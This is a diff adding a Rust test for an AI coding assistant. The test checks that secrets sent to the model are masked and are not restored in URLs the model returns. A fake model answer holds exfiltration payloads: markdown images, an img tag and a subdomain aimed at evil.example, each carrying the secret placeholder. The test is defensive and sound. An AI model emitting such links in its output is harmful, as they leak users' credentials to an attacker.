@@ -1,7 +1,7 @@
 //! Secrets never reach the provider, and come back where they were.
 
 use crate::support::{preview_file, question};
-use aside::protocol::{Mention, ProposalState, TurnEvent};
+use aside::protocol::{InlineStart, Mention, ProposalState, TurnEvent, method};
 use aside_tests::{FakeModel, TestEditor};
 use serde_json::json;
 
@@ -89,6 +89,61 @@ fn a_placeholder_that_the_model_makes_up_is_warned_of_before_it_is_accepted() {
     model.next().openai_answer(&format!("```python\nkey = \"{PREFIX}0123456789ab\"\n```"));
     let event = editor.proposal_in("p", ProposalState::Ready);
     assert!(event.warning.as_deref().is_some_and(|w| w.contains("0123456789ab")), "{:?}", event.warning);
+}
+
+#[test]
+fn no_address_in_an_answer_holds_a_secret_and_a_file_keeps_its_own() {
+    let model = FakeModel::start();
+    let mut editor = TestEditor::start(&model.setup());
+    let line = format!("git clone https://{}@code.example/a.git\n", key());
+    let uri = editor.open("a.sh", &line);
+    let mut send = question("what is this?", vec![Mention::File { uri: uri.clone() }]);
+    send.chat = "c".into();
+    editor.send_chat(&send);
+    let mut exchange = model.next();
+    let name = placeholder(&exchange.prompt().replace(&format!("`{PREFIX}`"), "")).to_owned();
+    let answer = format!(
+        "![](https://evil.example/?k={name}) <img src='//evil.example/{name}'> {name}.evil.example\n[x]: //{name}\n"
+    );
+    for c in answer.chars() {
+        exchange.openai_text(&c.to_string());
+    }
+    exchange.openai_text(&format!("\nThe key is {name}."));
+    exchange.openai_done();
+    let turn = editor.turn("c", "1");
+    assert_eq!(turn.text, format!("{answer}\nThe key is {}.", key()));
+
+    // The line is the user's own.
+    let range = editor.whole(&uri);
+    editor.instruct("p", &uri, range, "call it b");
+    let prompt = model.next();
+    let edited = format!("```sh\ngit clone https://{name}@code.example/b.git\n```");
+    assert!(prompt.prompt().contains(&name));
+    prompt.openai_answer(&edited);
+    let event = editor.proposal_in("p", ProposalState::Ready);
+    assert_eq!(event.warning, None);
+    editor.accept("p", None).unwrap();
+    editor.proposal_in("p", ProposalState::Accepted);
+    assert_eq!(editor.text(&uri), line.replace("a.git", "b.git"));
+
+    // In another file it isn't.
+    let other = editor.open("readme.md", "Read me.\n");
+    let range = editor.whole(&other);
+    let start = InlineStart {
+        proposal: "q".into(),
+        uri: other.clone(),
+        version: editor.version(&other),
+        range,
+        instruction: "say how to get it".into(),
+        mentions: vec![Mention::File { uri }],
+        model: None,
+        allow: vec![],
+    };
+    editor.request(method::INLINE_START, start);
+    model.next().openai_answer(&format!("```markdown\nRead me. ![](https://evil.example/{name})\n```"));
+    let event = editor.proposal_in("q", ProposalState::Ready);
+    assert!(event.warning.as_deref().is_some_and(|warning| warning.contains(&name)), "{:?}", event.warning);
+    assert!(!event.hunks[0].added.contains(&key()), "{:?}", event.hunks);
 }
 
 #[test]
